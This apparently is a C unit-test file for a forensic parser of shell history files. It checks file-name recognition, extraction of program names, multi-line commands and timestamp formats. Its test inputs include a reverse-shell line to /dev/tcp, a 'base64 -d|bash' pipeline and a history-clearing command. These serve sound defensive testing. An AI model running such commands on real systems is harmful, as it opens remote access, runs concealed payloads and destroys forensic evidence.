/* Histories of shells: what a file is by its name and by its lines, commands, times, programs. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "input/shell/history_name.h"
#include "input/shell/programs.h"
#include "input/shell/shell_history.h"
#include "support/line_check.h"

/* ---- names ---- */

static const struct {
    const char *path, *shell, *user;
    bool may_listed;
} names[] = {
        {"case/home/alice/.bash_history", "bash", "alice", false},
        {"web01.tar.gz!root/.bash_history", "bash", "root", false},
        {"case/[root]/root/.zsh_history", "zsh", "root", false},
        {"/Users/carol/.zsh_history", "zsh", "carol", false},
        {"C\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\"
         "ConsoleHost_history.txt",
                "powershell", "bob", false},
        {"Windows/System32/config/systemprofile/AppData/x/ConsoleHost_history.txt", "powershell",
                "SYSTEM", false},
        {"x/Visual Studio Code Host_history.txt", "powershell", "Visual Studio Code", false},
        {"home/carol/.local/share/fish/fish_history", "fish", "carol", false},
        {"var/www/.bash_history", "bash", "", false},
        {"x/home_alice_.bash_history", "bash", "alice", false},
        {"x/home_alice_smith_.bash_history", "bash", "alice_smith", false},
        {"x/alice.smith_ConsoleHost_history.txt", "powershell", "alice.smith", false},
        {"x/C_Users_bob_AppData_Roaming_ConsoleHost_history.txt", "powershell", "bob", false},
        {"x/root-bash_history", "bash", "root", false},
        {"bash_history.txt", "bash", "", false},
        {".bash_history.1.gz", "bash", "", false},
        {".bash_history-20260503", "bash", "", false},
        {".ash_history", "ash", "", false},
        {".sh_history", "sh", "", false},
        {".mksh_history", "mksh", "", false},
        {".history", "sh", "", false},
        {"home/alice/.histfile", "zsh", "alice", false},
        {"home/alice/.python_history", "python", "alice", false},
        {"root/.mysql_history", "mysql", "root", false},
        {"home_bob_.psql_history.txt", "psql", "bob", false},
        {"var/lib/redis/.rediscli_history", "redis-cli", "", false},
        {"python_history.py", "", "", false},
        {"home/alice/history.txt", "", "alice", true},
        {"alice_history.log", "", "", true},
        {"bash_history.py", "", "", false},
        {"shell_history.c", "", "", false},
        {"push_history", "", "", true},
        {"ssh_history.json", "", "", false},
        {"bash_historyx", "", "", false},
        {"prehistory", "", "", false},
        {"bash", "", "", false},
        {"", "", "", false},
        {"//!!", "", "", false},
};

static void test_names(void **state)
{
    (void)state;
    unsigned failed = 0;
    for (size_t i = 0; i < BW_COUNT(names); i++) {
        const size_t len = strlen(names[i].path);
        char *exact = malloc(len + 1); /* so that a read past the end is seen */
        assert_non_null(exact);
        memcpy(exact, names[i].path, len);
        const struct history_name got = history_name_read((bw_str){.ptr = exact, .len = len});
        if (!bw_str_eq(got.shell, bw_str_of(names[i].shell)) ||
                !bw_str_eq(got.user, bw_str_of(names[i].user)) ||
                got.may_listed != names[i].may_listed) {
            fprintf(stderr, "%s: '%.*s' '%.*s' %d\n", names[i].path, bw_str_width(got.shell),
                    got.shell.ptr, bw_str_width(got.user), got.user.ptr, got.may_listed);
            failed++;
        }
        free(exact);
    }
    assert_int_equal(failed, 0);
}

/* ---- programs ---- */

static const struct {
    const char *line, *want;
} lines[] = {
        {"ls -la", "ls"},
        {"  A=1 B+=2 /bin/cat<x", ""},
        {"A=1 B+=2 /bin/cat <x", "/bin/cat"},
        {"cat x | base64 -d|bash", "cat base64 bash"},
        {"cd /tmp && ./a.sh; ~/b & (c)", "./a.sh ~/b c"},
        {"sudo -u root -E wget x", "sudo wget"},
        {"sudo -i", "sudo"},
        {"timeout 10s nohup env X=1 python3 -c 'import os; os.x()'", "timeout nohup env python3"},
        {"xargs -n 1 rm < x", "xargs rm"},
        {">x echo a", "echo"},
        {"2> x echo a 2>&1 >&2 &>y", "echo"},
        {"bash -i >& /dev/tcp/203.0.113.9/1 0>&1", "bash"},
        {"if true; then id; fi", "true id"},
        {"for i in a b; do echo $i; done", "echo"},
        {"x=$(whoami) `id`", "whoami id"},
        {"echo 'a; b' \"c | d\" e\\;f", "echo"},
        {"ls # rm x", "ls"},
        {"ls\n# rm\nid", "ls id"},
        {"$X y", ""},
        {"'ls' x", ""},
        {"export PATH=/x; unset HISTFILE; history -c", ""},
        {"echo 'open", "echo"},
        {"echo \\", "echo"},
        {"a|b|c|d|e|f|g|h|i|j|k|l|m|n|o|p|q|r", "a b c d e f g h i j k l m n o p"},
        {"", ""},
};

static void test_programs(void **state)
{
    (void)state;
    unsigned failed = 0;
    for (size_t i = 0; i < BW_COUNT(lines); i++) {
        bw_str programs[SHELL_MAX_PROGRAMS];
        struct bw_buffer got;
        bw_buffer_init(&got, BW_MIB);
        const size_t count = shell_programs(bw_str_of(lines[i].line), programs);
        for (size_t p = 0; p < count; p++) {
            if (p != 0)
                bw_buffer_add_char(&got, ' ');
            bw_buffer_add_str(&got, programs[p]);
        }
        if (!bw_str_eq(bw_buffer_str(&got), bw_str_of(lines[i].want))) {
            fprintf(stderr, "%s: '%.*s'\n", lines[i].line, (int)got.len, (const char *)got.ptr);
            failed++;
        }
        bw_buffer_release(&got);
    }
    assert_int_equal(failed, 0);
}

static const struct {
    const char *text;
    bool open;
} commands[] = {
        {"ls", false},
        {"echo 'a", true},
        {"echo 'a\nb'", false},
        {"echo \"a\\\"", true},
        {"echo \"a\\\"\n\"", false},
        {"echo a\\", true},
        {"echo a\\\nb", false},
        {"cat <<EOF", true},
        {"cat <<'EOF' > x\nit's\nEOF", false},
        {"cat <<-EOF\nx\n\tEOF", false},
        {"cat <<< 'x'", false},
        {"ls # don't", false},
        {"echo a#'b", true},
};

static void test_open(void **state)
{
    (void)state;
    for (size_t i = 0; i < BW_COUNT(commands); i++) {
        struct shell_open open = {.quote = '\0'};
        bw_str rest = bw_str_of(commands[i].text);
        bw_str line;
        bool is_open = false;
        while (bw_str_cut(&rest, '\n', &line))
            is_open = shell_open_feed(&open, line);
        if (is_open != commands[i].open)
            fail_msg("%s", commands[i].text);
    }
}

/* ---- events ---- */

#define T1 "2026-05-03T08:00:01.000Z "
#define T2 "2026-05-03T08:00:02.000Z "
#define E(rest)                                                                                    \
    "{\"event.dataset\":\"shell.history\",\"event.category\":\"process\",\"event.action\":"        \
    "\"shell_command\",\"CommandLine\":" rest "}\n"
#define LS E("\"ls\",\"Image\":\"$PATH/ls\"")

static const struct line_case cases[] = {
        {"a time before each command", "#1777795201\nls\n#1777795202\r\nls -l\r\n",
                T1 LS T2 E("\"ls -l\",\"Image\":\"$PATH/ls\"") "end end 2 0\n"},
        {"commands of several lines, and one that another shell added",
                "#1777795201\ncat <<E\nit's\nE\nls\n#1777795202\nls\n",
                T1 E("\"cat <<E\\nit's\\nE\",\"Image\":\"$PATH/cat\"") "- " LS T2
                        LS "note assumed shell-history.no_time 27 1\nend end 3 0\n"},
        {"a quote that is never closed, and times without a command",
                "#1777795200\n#1777795201\nls 'x\n#1777795202\nls\n#1777795203\n",
                T1 E("\"ls 'x\",\"Image\":\"$PATH/ls\"") T2 LS "end end 2 0\n"},
        {"tcsh", "#+1777795201\nls\n#+1777795202\nls\n", T1 LS T2 LS "end end 2 0\n"},
        {"zsh", ": 1777795201:0;ls\n: 1777795202:15;echo a\\\nb \xc2\x83\xa3\n",
                T1 LS T2 E(
                        "\"echo a\\nb \xc2\x83\",\"Image\":[\"$PATH/echo\",\"$PATH/b\"]") "end end "
                                                                                          "2 0\n"},
        {"fish",
                "- cmd: ls\n  when: 1777795201\n  paths:\n    - x\n- cmd: a\\\\b\\nls\n  when: x\n",
                T1 LS "- " E("\"a\\\\b\\nls\",\"Image\":\"$PATH/ls\"") "note assumed "
                                                                       "shell-history.no_time 46 "
                                                                       "1\nend end 2 0\n"},
        {"numbered, with times", "    9  2026-05-03 08:00:01 ls\n   10* [2026-05-03 08:00:02] ls\n",
                T1 LS T2 LS "note assumed shell-history.zone_assumed 0 2\nend end 2 0\n"},
        {"numbered by zsh, without seconds",
                "    9  2026-05-03 08:00  ls\n   10  2026-05-03 08:00  ls\n more\n",
                "2026-05-03T08:00:00.000Z " LS "2026-05-03T08:00:00.000Z " E(
                        "\"ls\\n more\",\"Image\":[\"$PATH/ls\",\"$PATH/more\"]") "note assumed "
                                                                                  "shell-history."
                                                                                  "zone_assumed 0 "
                                                                                  "2\nend end 2 "
                                                                                  "0\n"},
        {"nothing but lines", "ls\n\n  \nls",
                "- " LS "- " LS "note anomaly shell-history.no_line_end 9 1\n"
                "note assumed shell-history.no_time 0 2\nend end 2 0\n"},
};

static void test_cases(void **state)
{
    (void)state;
    unsigned failed = 0;
    for (size_t i = 0; i < BW_COUNT(cases); i++)
        failed += !line_check_case(&input_shell_history, &cases[i]);
    assert_int_equal(failed, 0);
}

#define P(text)                                                                                    \
    "- "                                                                                           \
    "{\"event.dataset\":\"powershell.history\",\"event.action\":\"command\","                      \
    "\"ScriptBlockText\":" text "}\n"

static const struct line_case powershell_cases[] = {
        {"lines, and a command of several", "Get-Process\r\nif (1) {`\n  2`\r\n}\r\n`",
                P("\"Get-Process\"") P("\"if (1) {\\n  2\\n}\"")
                        P("\"`\"") "note anomaly powershell-history.no_line_end 33 1\n"
                                   "note assumed powershell-history.no_time 0 3\nend end 3 0\n"},
};

static void test_powershell(void **state)
{
    (void)state;
    assert_true(line_check_case(&input_powershell_history, &powershell_cases[0]));
}

/* ---- what it is ---- */

static const struct {
    const char *text, *name;
    enum input_match want, powershell;
} probes[] = {
        {"#1777795201\nls\n#1777795202\nls\n", "", INPUT_MATCH_SURE, INPUT_MATCH_NO},
        {"#1777795201\nls\n", "", INPUT_MATCH_LIKELY, INPUT_MATCH_NO},
        {"ls\n#1777795201\nls\n#1777795202\nls\n#1777795203\nls\n", "", INPUT_MATCH_LIKELY,
                INPUT_MATCH_NO},
        {"#1777795201\nls\ncd\nid\nls\nls\nls\nls\nls\n", "", INPUT_MATCH_NO, INPUT_MATCH_NO},
        {"# 1777795201\nls\n#99\nls\n", "", INPUT_MATCH_NO, INPUT_MATCH_NO},
        {": 1777795201:0;ls\\\nx\\\ny\\\nz\n", "", INPUT_MATCH_SURE, INPUT_MATCH_NO},
        {": 1777795201:0 ls\n", "", INPUT_MATCH_NO, INPUT_MATCH_NO},
        {"- cmd: ls\n  when: 1777795201\n", "", INPUT_MATCH_SURE, INPUT_MATCH_NO},
        {"- cmd: ls\n- name: x\n", "", INPUT_MATCH_NO, INPUT_MATCH_NO},
        {"    1  2026-05-03 08:00:01 ls\n    2  2026-05-03 08:00:02 id\n", "", INPUT_MATCH_SURE,
                INPUT_MATCH_NO},
        {"    1  ls\n    2  id\n", "", INPUT_MATCH_NO, INPUT_MATCH_NO},
        {"    1  ls\n    2  id\n", "x/history.txt", INPUT_MATCH_SURE, INPUT_MATCH_NO},
        {"    1  ls\n    3  id\n", "x/history.txt", INPUT_MATCH_NO, INPUT_MATCH_NO},
        {"ls\nid\n", "x/history.txt", INPUT_MATCH_NO, INPUT_MATCH_NO},
        {"ls\nid\n", "", INPUT_MATCH_NO, INPUT_MATCH_NO},
        {"ls\nid\n", "x/.bash_history", INPUT_MATCH_SURE, INPUT_MATCH_NO},
        {"[{\"x\":1}]\n", "x/bash_history", INPUT_MATCH_NO, INPUT_MATCH_NO},
        {"dir\n", "x/ConsoleHost_history.txt", INPUT_MATCH_NO, INPUT_MATCH_SURE},
        {"\xef\xbb\xbf<?xml version=\"1.0\"?>", "x/ConsoleHost_history.txt", INPUT_MATCH_NO,
                INPUT_MATCH_NO},
};

static void test_probe(void **state)
{
    (void)state;
    unsigned failed = 0;
    for (size_t i = 0; i < BW_COUNT(probes); i++) {
        const bw_bytes head = bw_str_bytes(bw_str_of(probes[i].text));
        const bw_str name = bw_str_of(probes[i].name);
        bool split = true;
        bool ignored;
        const enum input_match got =
                name.len != 0 ? input_shell_history.probe_named(head, true, name, &split)
                              : input_shell_history.probe(head, true, &split);
        const enum input_match powershell =
                name.len != 0 ? input_powershell_history.probe_named(head, true, name, &ignored)
                              : input_powershell_history.probe(head, true, &ignored);
        if (got != probes[i].want || powershell != probes[i].powershell || split) {
            fprintf(stderr, "%s (%s): %d %d\n", probes[i].text, probes[i].name, (int)got,
                    (int)powershell);
            failed++;
        }
    }
    assert_int_equal(failed, 0);
    bool split;
    assert_int_equal(input_shell_history.probe_named((bw_bytes){(const uint8_t *)"l\0s\n", 4}, true,
                             BW_STR(".bash_history"), &split),
            INPUT_MATCH_NO);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
            cmocka_unit_test(test_names),
            cmocka_unit_test(test_programs),
            cmocka_unit_test(test_open),
            cmocka_unit_test(test_cases),
            cmocka_unit_test(test_powershell),
            cmocka_unit_test(test_probe),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
